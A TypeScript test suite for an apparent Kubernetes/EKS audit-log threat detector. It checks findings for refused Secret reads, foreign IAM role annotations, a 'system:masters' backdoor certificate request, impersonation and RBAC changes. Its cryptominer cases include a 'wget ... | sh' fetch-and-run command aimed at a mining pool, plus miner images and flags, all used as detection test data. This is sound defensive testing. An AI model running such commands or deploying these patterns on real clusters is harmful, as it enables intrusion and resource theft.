import t from 'tap'
import { execFileSync } from 'node:child_process'
import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pino from 'pino'
import { Spool } from '../../src/delivery/spool.js'
import { findingPolicy } from '../../src/aggregate/policy.js'
import { createPipeline } from '../../src/pipeline/pipeline.js'
import { createAuditIngest } from '../../src/pipeline/audit.js'
import { auditDetectorOn } from '../../src/falconet.js'
import { validateConfig } from '../../src/config/load.js'
import { detector, eksEvent } from '../support/audit.js'
import type { AuditEvent } from '../../src/model/audit-event.js'
import { toAsff } from '../../src/asff/build.js'
import { findingFromEvent } from '../../src/aggregate/aggregator.js'
import { DEFAULT_SEVERITY_MAPPING } from '../../src/model/severity.js'
import { assertValidAsff, TEST_CONTEXT } from '../support/asff.js'

// Events written for these tests: EKS-shaped (IAM principals in user.extra), not from the fixtures.
const sa = (ns: string, name: string) => ({ username: `system:serviceaccount:${ns}:${name}`, uid: 'u-1', groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'], extra: { 'authentication.kubernetes.io/pod-name': [`${name}-7d9f-abcde`] } })
const refused = { responseStatus: { code: 403, reason: 'Forbidden' }, annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' } }
const at = (s: number) => ({ requestReceivedTimestamp: new Date(Date.parse('2026-11-21T10:00:00Z') + s * 1000).toISOString(), stageTimestamp: new Date(Date.parse('2026-11-21T10:00:00Z') + s * 1000 + 20).toISOString() })
const severity = (e: ReturnType<ReturnType<typeof detector>['detect']>[number]) => DEFAULT_SEVERITY_MAPPING[e.priority]

t.test("refused Secret reads by a workload's token: three are a finding (LOW); a person's burst stays as it was", async (t) => {
  const d = detector()
  const user = sa('shop', 'web')
  const probes: AuditEvent[] = [
    eksEvent({ user, sourceIPs: ['10.0.3.17'], userAgent: 'curl/8.5.0', verb: 'list', requestURI: '/api/v1/namespaces/shop/secrets', objectRef: { resource: 'secrets', namespace: 'shop', apiVersion: 'v1' }, ...refused, ...at(0) }),
    eksEvent({ user, sourceIPs: ['10.0.3.17'], userAgent: 'curl/8.5.0', verb: 'get', requestURI: '/api/v1/namespaces/kube-system/secrets/aws-secret', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'aws-secret', apiVersion: 'v1' }, ...refused, ...at(40) }),
    eksEvent({ user, sourceIPs: ['10.0.3.17'], userAgent: 'curl/8.5.0', verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets', apiVersion: 'v1' }, ...refused, ...at(200) }),
  ]
  t.same(d.ids(probes[0]!), [])
  t.same(d.ids(probes[1]!), [])
  const [f] = d.detect(probes[2]!)
  t.equal(f?.fields['detection.id'], 'workload-forbidden-secret-reads')
  t.equal(severity(f!), 'LOW')
  t.match(f!.output, /service account shop\/web was refused 3 reads of Secrets .*cluster-wide/)
  t.same(d.ids(eksEvent({ user, verb: 'get', objectRef: { resource: 'secrets', namespace: 'shop', name: 'x' }, ...refused, ...at(210) })), [], 'once per window')
  // Two refusals, or refusals of other resources, are not.
  const quiet = detector()
  const other = sa('shop', 'api')
  t.same(
    [
      ...quiet.ids(eksEvent({ user: other, verb: 'get', objectRef: { resource: 'secrets', namespace: 'shop', name: 'a' }, ...refused, ...at(0) })),
      ...quiet.ids(eksEvent({ user: other, verb: 'get', objectRef: { resource: 'secrets', namespace: 'shop', name: 'b' }, ...refused, ...at(1) })),
      ...quiet.ids(eksEvent({ user: other, verb: 'list', objectRef: { resource: 'configmaps', namespace: 'kube-system' }, ...refused, ...at(2) })),
    ],
    [],
  )
  // A person: three refusals are nothing, five within a minute are the existing burst.
  const p = detector()
  const ids = Array.from({ length: 5 }, (_, i) => p.ids(eksEvent({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `s${i}` }, ...refused, ...at(i) }))).flat()
  t.same(ids, ['forbidden-secret-reads'])
})

t.test('a new service account in a system namespace by a person; a foreign-account IAM role is HIGH', async (t) => {
  const d = detector()
  const create = (ns: string, name: string, annotations: Record<string, string> = {}, user?: AuditEvent['user']) =>
    d.detect(
      eksEvent({
        ...(user ? { user } : {}),
        verb: 'create',
        requestURI: `/api/v1/namespaces/${ns}/serviceaccounts`,
        objectRef: { resource: 'serviceaccounts', namespace: ns, name, apiVersion: 'v1' },
        requestObject: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name, namespace: ns, annotations } },
        responseStatus: { code: 201 },
      }),
    )
  const plain = create('kube-system', 'node-helper')
  t.same(
    plain.map((f) => f.fields['detection.id']),
    ['service-account-in-system-namespace'],
  )
  t.equal(severity(plain[0]!), 'MEDIUM')
  const pivot = create('kube-system', 'metrics-agent', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::999988887777:role/collector' })
  t.same(pivot.map((f) => f.fields['detection.id']).sort(), ['service-account-foreign-role', 'service-account-in-system-namespace'])
  const foreign = pivot.find((f) => f.fields['detection.id'] === 'service-account-foreign-role')!
  t.equal(severity(foreign), 'HIGH')
  t.match(foreign.output, /account 999988887777, not the caller's 111122223333/)
  t.same(
    create('kube-system', 'aws-load-balancer-controller', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/alb' }).map((f) => f.fields['detection.id']),
    [],
    "an add-on's known name, the caller's own account",
  )
  t.same(create('shop', 'web', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/web' }), [], 'an app namespace, own account')
  t.same(create('kube-system', 'x', {}, { username: 'system:serviceaccount:kube-system:eks-addon-controller', groups: [] }), [], "EKS's own principals")
  // An app's service account annotated with another account's role, by a JSON patch: MEDIUM outside system namespaces.
  const patched = d.detect(eksEvent({ verb: 'patch', objectRef: { resource: 'serviceaccounts', namespace: 'shop', name: 'web' }, requestObject: [{ op: 'add', path: '/metadata/annotations/eks.amazonaws.com~1role-arn', value: 'arn:aws:iam::999988887777:role/exfil' }] }))
  t.same(
    patched.map((f) => [f.fields['detection.id'], severity(f)]),
    [['service-account-foreign-role', 'MEDIUM']],
  )
  // An organisation's other accounts can be trusted.
  t.same(detector({ trustedAccounts: ['999988887777'] }).ids(eksEvent({ verb: 'patch', objectRef: { resource: 'serviceaccounts', namespace: 'shop', name: 'web' }, requestObject: [{ op: 'add', path: '/metadata/annotations/eks.amazonaws.com~1role-arn', value: 'arn:aws:iam::999988887777:role/exfil' }] })), [])
})

t.test('a server-side apply that creates (PATCH answered 201) is a create; a certificate user is judged against the accounts of the nodes', async (t) => {
  const d = detector()
  const certAdmin = { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] }
  const ssa = (annotations: Record<string, string>) =>
    d.detect(
      eksEvent({
        user: certAdmin,
        verb: 'patch',
        requestURI: '/api/v1/namespaces/kube-system/serviceaccounts/collector?fieldManager=kubectl',
        objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'collector' },
        responseStatus: { code: 201 },
        requestObject: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'collector', annotations } },
      }),
    )
  t.same(
    ssa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/x' }).map((f) => f.fields['detection.id']),
    ['service-account-in-system-namespace'],
    'no AWS identity and no account known yet: the role is not judged',
  )
  // A node's request tells the cluster's account (EKS puts the node role in user.extra.arn).
  d.detect(eksEvent({ user: { username: 'system:node:ip-10-0-1-10.eu-west-1.compute.internal', groups: ['system:nodes', 'system:authenticated'], extra: { arn: ['arn:aws:sts::111122223333:assumed-role/eks-nodes/i-0abc'] } }, verb: 'get', objectRef: { resource: 'pods', namespace: 'shop', name: 'web-1' } }))
  t.same(
    ssa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/x' })
      .map((f) => f.fields['detection.id'])
      .sort(),
    ['service-account-foreign-role', 'service-account-in-system-namespace'],
  )
  t.same(
    ssa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/x' }).map((f) => f.fields['detection.id']),
    ['service-account-in-system-namespace'],
    "the cluster's own account",
  )
  t.same(d.ids(eksEvent({ user: certAdmin, verb: 'patch', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'coredns' }, responseStatus: { code: 200 }, requestObject: { metadata: { labels: { a: 'b' } } } })), [], 'an ordinary patch of an existing one')
})

t.test("a kube-system service account's token refused reading Secrets is a finding too", async (t) => {
  const d = detector()
  const user = sa('kube-system', 'aws-node')
  const ids = [0, 1, 2].flatMap((i) => d.ids(eksEvent({ user, verb: 'get', objectRef: { resource: 'secrets', namespace: i === 2 ? 'prod' : 'kube-system', name: `s${i}` }, ...refused, ...at(i * 30) })))
  t.same(ids, ['workload-forbidden-secret-reads'])
})

t.test('NodePort services', async (t) => {
  const svc = (type: string, verb = 'create', user?: AuditEvent['user']) =>
    detector().ids(eksEvent({ ...(user ? { user } : {}), verb, objectRef: { resource: 'services', namespace: 'shop', name: 'debug' }, requestObject: { kind: 'Service', metadata: { name: 'debug' }, spec: { type, ports: [{ port: 22, nodePort: 30022 }] } } }))
  t.same(svc('NodePort'), ['nodeport-service'])
  t.same(svc('ClusterIP'), [])
  t.same(svc('LoadBalancer'), [])
  t.same(svc('NodePort', 'create', { username: 'system:serviceaccount:kube-system:service-controller', groups: [] }), [])
})

function csr(subject: string): string {
  const pem = execFileSync('openssl', ['req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', '/dev/null', '-subj', subject], { stdio: ['ignore', 'pipe', 'ignore'] })
  return pem.toString('base64')
}

t.test('certificate signing requests for privileged identities, approved or not', async (t) => {
  const request = (subject: string, user?: AuditEvent['user'], signerName = 'kubernetes.io/kube-apiserver-client') =>
    detector().detect(
      eksEvent({
        ...(user ? { user } : {}),
        verb: 'create',
        requestURI: '/apis/certificates.k8s.io/v1/certificatesigningrequests',
        objectRef: { resource: 'certificatesigningrequests', name: 'req-1', apiGroup: 'certificates.k8s.io' },
        requestObject: { kind: 'CertificateSigningRequest', metadata: { name: 'req-1' }, spec: { request: csr(subject), signerName, usages: ['client auth'] } },
        responseStatus: { code: 201 },
      }),
    )
  const masters = request('/O=system:masters/CN=backdoor')
  t.same(
    masters.map((f) => [f.fields['detection.id'], severity(f)]),
    [['privileged-csr', 'HIGH']],
  )
  t.match(masters[0]!.output, /O=system:masters/)
  const nodeName = request('/O=system:nodes/CN=system:node:ip-10-0-9-9.eu-west-1.compute.internal')
  t.same(
    nodeName.map((f) => [f.fields['detection.id'], severity(f)]),
    [['privileged-csr', 'MEDIUM']],
    'a node identity asked for by a person',
  )
  const kubelet = { username: 'system:node:ip-10-0-9-9.eu-west-1.compute.internal', groups: ['system:nodes', 'system:authenticated'] }
  t.same(request('/O=system:nodes/CN=system:node:ip-10-0-9-9.eu-west-1.compute.internal', kubelet, 'kubernetes.io/kubelet-serving'), [], "a kubelet's own rotation")
  t.same(request('/O=dev-team/CN=jane'), [], 'an ordinary user certificate')
  // Approval of a request whose object is recorded (RequestResponse level): the subject is read there too.
  const approval = detector().detect(
    eksEvent({
      verb: 'update',
      objectRef: { resource: 'certificatesigningrequests', subresource: 'approval', name: 'req-1' },
      requestObject: { kind: 'CertificateSigningRequest', metadata: { name: 'req-1' }, spec: { request: csr('/O=system:masters/CN=backdoor'), username: 'mallory', signerName: 'kubernetes.io/kube-apiserver-client' }, status: { conditions: [{ type: 'Approved', status: 'True' }] } },
    }),
  )
  t.same(approval.map((f) => f.fields['detection.id']).sort(), ['csr-approved-by-human', 'privileged-csr'])
  const eksApproval = { username: 'eks:certificate-controller', groups: ['system:authenticated'] }
  t.same(
    detector().ids(
      eksEvent({
        user: eksApproval,
        verb: 'update',
        objectRef: { resource: 'certificatesigningrequests', subresource: 'approval', name: 'csr-k' },
        requestObject: { kind: 'CertificateSigningRequest', spec: { request: csr('/O=system:nodes/CN=system:node:ip-10-0-1-1.eu-west-1.compute.internal'), signerName: 'kubernetes.io/kubelet-serving' }, status: { conditions: [{ type: 'Approved' }] } },
      }),
    ),
    [],
    "EKS approving a kubelet's request whose object does not name the requester",
  )
  t.same(detector().ids(eksEvent({ verb: 'create', objectRef: { resource: 'certificatesigningrequests', name: 'junk' }, requestObject: { kind: 'CertificateSigningRequest', spec: { request: 'bm90IGEgY3Ny' } } })), [], 'an unreadable request is no finding and no error')
})

t.test('impersonating a privileged identity is at least MEDIUM, whoever impersonates', async (t) => {
  const d = detector()
  const imp = (impersonatedUser: AuditEvent['impersonatedUser'], user?: AuditEvent['user']) => d.detect(eksEvent({ ...(user ? { user } : {}), verb: 'list', objectRef: { resource: 'secrets', namespace: 'kube-system' }, impersonatedUser }))
  for (const target of [{ username: 'system:admin' }, { username: 'x', groups: ['system:masters'] }, { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' }]) {
    const [f] = imp(target)
    t.equal(f?.fields['detection.id'], 'privileged-impersonation', JSON.stringify(target))
    t.equal(severity(f!), 'MEDIUM')
  }
  t.same(
    imp({ username: 'system:admin' }, { username: 'system:serviceaccount:kube-system:generic-garbage-collector', groups: [] }).map((f) => f.fields['detection.id']),
    ['privileged-impersonation'],
    'also by a benign principal',
  )
  // A user bound to cluster-admin (learned from the binding) becomes privileged.
  t.same(
    imp({ username: 'ops-lead' }).map((f) => f.fields['detection.id']),
    ['impersonation'],
  )
  d.detect(
    eksEvent({
      user: { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] },
      verb: 'create',
      objectRef: { resource: 'clusterrolebindings', name: 'ops-lead-admin' },
      requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'ops-lead-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'ops-lead' }] },
    }),
  )
  t.same(
    imp({ username: 'ops-lead' }).map((f) => f.fields['detection.id']),
    ['privileged-impersonation'],
  )
})

t.test('cryptominers without an allow-list: images and arguments, in pods and workload templates', async (t) => {
  const pod = (container: Record<string, unknown>, resource = 'pods', user?: AuditEvent['user'], ns = 'shop') => {
    const spec = {
      containers: [
        { name: 'app', image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/web:1.0' },
        { name: 'side', ...container },
      ],
    }
    const body = resource === 'pods' ? { kind: 'Pod', metadata: { name: 'p' }, spec } : resource === 'cronjobs' ? { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec } } } } } : { kind: 'Deployment', spec: { template: { spec } } }
    return detector().detect(eksEvent({ ...(user ? { user } : {}), verb: 'create', objectRef: { resource, namespace: ns, name: 'p' }, requestObject: body, responseStatus: { code: 201 } }))
  }
  const cases: Array<[string, Record<string, unknown>, string?]> = [
    ['docker.io image', { image: 'metal3d/xmrig:latest' }],
    ['mirrored image', { image: 'ghcr.io/someone/xmrig-proxy@sha256:abc' }],
    ['pool URL in args', { image: 'alpine:3.20', command: ['/bin/sh', '-c'], args: ['wget -qO- http://x/m | sh -s -- -o stratum+tcp://pool.supportxmr.com:3333 -u 4Abc'] }],
    ['miner flags', { image: 'ubuntu:24.04', args: ['--donate-level=1', '--algo', 'rx/0'] }],
    ['in a cron job template', { image: 'minerd:2.5' }, 'cronjobs'],
    ['in a deployment template', { image: 'docker.io/library/busybox', args: ['-o', 'stratum+ssl://xmr.2miners.com:12222'] }, 'deployments'],
  ]
  for (const [name, container, resource] of cases) {
    const found = pod(container, resource)
    const f = found.find((x) => x.fields['detection.id'] === 'cryptominer-workload')
    t.ok(f, name)
    t.equal(f && severity(f), 'HIGH', name)
  }
  t.ok(
    pod({ image: 'metal3d/xmrig' }, 'pods', { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: [] }, 'kube-system').some((f) => f.fields['detection.id'] === 'cryptominer-workload'),
    "a controller's pod in kube-system too",
  )
  for (const image of ['nginx:1.27', 'redis:7', 'grafana/grafana:11', 'quay.io/prometheus/node-exporter:v1.8', 'public.ecr.aws/eks/aws-load-balancer-controller:v2.9.0', 'minio/minio:latest', 'docker.io/bitnami/mongodb:7.0']) {
    t.same(
      pod({ image, args: ['--config=/etc/app.yaml', '--port=8080'] }).filter((f) => f.fields['detection.id'] === 'cryptominer-workload'),
      [],
      image,
    )
  }
})

t.test('long-running requests: detected at ResponseStarted or ResponseComplete, once per request (through the audit pipeline)', async (t) => {
  const spool = new Spool({ dir: join(mkdtempSync(join(tmpdir(), 'falconet-stages-')), 'spool'), maxBytes: 1 << 30, durability: 'process', resendMs: {}, logger: pino({ level: 'silent' }), policy: findingPolicy({ windowMs: 86_400_000 }) })
  t.teardown(() => spool.close())
  const config = validateConfig({})
  const audit = createAuditIngest(auditDetectorOn(config.audit, spool.state), createPipeline({ keyFields: {}, severityMapping: config.severityMapping, windowMs: 86_400_000 }, spool, ['probe']), spool)
  const base = eksEvent({ auditID: 'exec-1', verb: 'create', requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }, responseStatus: { code: 101 } })
  const started = { ...base, stage: 'ResponseStarted' }
  const complete = { ...base, stage: 'ResponseComplete', stageTimestamp: '2026-11-21T10:45:00.000000Z' }
  t.equal((await audit([started])).findings, 1, 'ResponseStarted')
  t.equal((await audit([complete])).findings, 0, 'the same request again at ResponseComplete, in a later batch')
  t.equal(
    (
      await audit([
        { ...complete, auditID: 'exec-2' },
        { ...started, auditID: 'exec-2' },
      ])
    ).findings,
    1,
    'both stages in one batch, either order',
  )
  t.equal((await audit([{ ...complete, auditID: 'exec-3' }])).findings, 1, 'ResponseComplete only (ResponseStarted never logged)')
  const c = detector()
  t.same(c.ids({ ...base, stage: 'ResponseStarted', auditID: 'attach-1', requestURI: '/api/v1/namespaces/shop/pods/web-1/attach?stdin=true', objectRef: { resource: 'pods', subresource: 'attach', namespace: 'shop', name: 'web-1' } }), ['exec-in-pod'], 'attach')
  t.same(c.ids({ ...base, stage: 'ResponseStarted', auditID: 'pf-1', requestURI: '/api/v1/namespaces/shop/pods/db-0/portforward', objectRef: { resource: 'pods', subresource: 'portforward', namespace: 'shop', name: 'db-0' } }), ['port-forward'])
  // Another request carrying the same auditID (a replay meant to hide it) is a request of its own.
  await audit([{ ...started, auditID: 'shared', requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=date' }])
  t.equal((await audit([{ ...started, auditID: 'shared', requestURI: '/api/v1/namespaces/kube-system/pods/aws-node-x/exec?command=sh', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'aws-node-x' } }])).findings, 1)
})

t.test("Falco's remaining verdicts, on events written here: graded ClusterRoles, bindings, attach, a controller's privileged second container", async (t) => {
  const admin = { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] } // a certificate user: no AWS identity, still a person
  const role = (rules: unknown[], verb = 'create', name = 'ci-helper', resource = 'clusterroles') => detector().detect(eksEvent({ user: admin, verb, objectRef: { resource, name, apiGroup: 'rbac.authorization.k8s.io' }, requestObject: verb === 'delete' ? undefined : { kind: 'ClusterRole', metadata: { name }, rules } }))
  const graded = (fs: ReturnType<typeof role>) => fs.map((f) => `${f.fields['detection.id']}:${severity(f)}`).sort()
  t.same(graded(role([{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] }])), ['rbac-change:INFORMATIONAL'])
  t.same(graded(role([{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'patch'] }])), ['rbac-change:INFORMATIONAL', 'role-with-write-privileges:LOW'])
  t.same(graded(role([{ apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] }])), ['rbac-change:INFORMATIONAL', 'role-with-pod-exec:MEDIUM', 'role-with-write-privileges:LOW'])
  t.same(graded(role([{ apiGroups: ['*'], resources: ['*'], verbs: ['get'] }])), ['rbac-change:INFORMATIONAL', 'wildcard-role:MEDIUM'])
  t.same(graded(role([], 'delete')), ['rbac-change:INFORMATIONAL'])
  t.same(graded(role([], 'delete', 'system:aggregate-to-edit')), ['rbac-change:INFORMATIONAL', 'system-role-changed:MEDIUM'])
  t.same(graded(role([{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }], 'create', 'reader', 'roles')), ['rbac-change:INFORMATIONAL'])
  const binding = (verb: string) =>
    detector().detect(
      eksEvent({ user: admin, verb, objectRef: { resource: 'clusterrolebindings', name: 'ci-helper' }, requestObject: verb === 'delete' ? undefined : { kind: 'ClusterRoleBinding', metadata: { name: 'ci-helper' }, roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'Group', name: 'ci' }] } }),
    )
  t.same(graded(binding('create')), ['rbac-change:INFORMATIONAL'])
  t.same(graded(binding('delete')), ['rbac-change:INFORMATIONAL'])
  t.same(detector().ids(eksEvent({ user: { username: 'eks:addon-manager', groups: [] }, verb: 'patch', objectRef: { resource: 'clusterroles', name: 'system:coredns' } })), [], "EKS's own changes")
  t.same(detector().ids(eksEvent({ user: admin, stage: 'ResponseStarted', verb: 'create', objectRef: { resource: 'pods', subresource: 'attach', namespace: 'shop', name: 'web-1' }, responseStatus: { code: 101 } })), ['exec-in-pod'])
  const controllerPod = (ns: string, image: string) =>
    detector().ids(
      eksEvent({
        user: { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] },
        verb: 'create',
        objectRef: { resource: 'pods', namespace: ns },
        requestObject: {
          kind: 'Pod',
          metadata: { generateName: 'web-6c9f-' },
          spec: {
            containers: [
              { name: 'web', image: 'nginx:1.27' },
              { name: 'agent', image, securityContext: { privileged: true } },
            ],
          },
        },
      }),
    )
  t.same(controllerPod('shop', 'busybox:1.36'), ['privileged-container'])
  t.same(controllerPod('kube-system', 'busybox:1.36').sort(), ['privileged-container', 'workload-in-kube-system'], 'in kube-system with an image from outside the add-on registries')
})

t.test('every new finding is valid ASFF', async (t) => {
  const d = detector()
  const events = [
    eksEvent({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'x' }, requestObject: { kind: 'ServiceAccount', metadata: { name: 'x', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::999988887777:role/r' } } } }),
    eksEvent({ verb: 'create', objectRef: { resource: 'pods', namespace: 'shop', name: 'm' }, requestObject: { kind: 'Pod', spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] } } }),
    eksEvent({ verb: 'list', objectRef: { resource: 'secrets' }, impersonatedUser: { username: 'system:admin' } }),
  ]
  let n = 0
  for (const e of events)
    for (const f of d.detect(e)) {
      n++
      assertValidAsff(t, toAsff(findingFromEvent(f, { keyFields: {}, severityMapping: DEFAULT_SEVERITY_MAPPING }), TEST_CONTEXT), String(f.fields['detection.id']))
    }
  t.ok(n >= 4)
})
